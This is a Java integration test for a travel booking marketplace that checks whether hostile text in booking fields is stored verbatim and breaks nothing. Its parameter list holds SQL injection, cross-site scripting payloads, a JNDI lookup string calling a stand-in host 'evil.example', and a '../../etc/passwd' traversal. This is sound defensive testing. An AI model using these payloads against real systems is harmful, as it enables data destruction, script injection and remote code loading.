package org.panprd.marketplace.it;

import static org.assertj.core.api.Assertions.assertThat;

import io.restassured.path.json.JsonPath;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** SQL, HTML and other people's languages in every field that takes text. */
@OnTheMarket
class HostileTextIT {
    private final Market market;
    private final Traveller traveller;

    HostileTextIT(Market market) {
        this.market = market;
        this.traveller = market.traveller();
    }

    @Nested
    class InEveryField {
        @ParameterizedTest
        @ValueSource(
                strings = {
                    "Robert'); DROP TABLE booking;--",
                    "<script>alert('x')</script>",
                    "\"><img src=x onerror=alert(1)>",
                    "${jndi:ldap://evil.example/x} #{7*7} {0} %s %n",
                    "O'Brien & Söhne \\ \" 😀 𠮷",
                    "../../etc/passwd"
                })
        void is_kept_as_it_is_and_breaks_nothing(String text) {
            Trip trip = Trip.to("yunnan.lijiang-courtyard-inn", Calendar.today().plusDays(230))
                    .option("twin")
                    .contact("fullName", text)
                    .guestsNamed(text);

            UUID id = traveller.confirmed(trip);

            JsonPath booking = traveller.sees(id);
            assertThat(booking.getString("contact.fullName")).isEqualTo(text);
            assertThat(booking.getString("participants[0].fullName")).isEqualTo(text);
            assertThat(new Mailbox(market).about(booking.getString("reference")))
                    .singleElement()
                    .satisfies(letter -> assertThat(letter.text()).contains(text));
            assertThat(traveller
                            .request()
                            .get("/bookings/{id}/vouchers.pdf", id)
                            .statusCode())
                    .isEqualTo(200);
            assertThat(traveller
                            .post("/bookings/" + id + "/cancel", traveller.newKey(), Map.of("reason", text))
                            .statusCode())
                    .isEqualTo(200);
            assertThat(market.request().queryParam("q", text).get("/listings").statusCode())
                    .isEqualTo(200);
            assertThat(market.database().wrongCounters()).isEmpty();
        }
    }
}
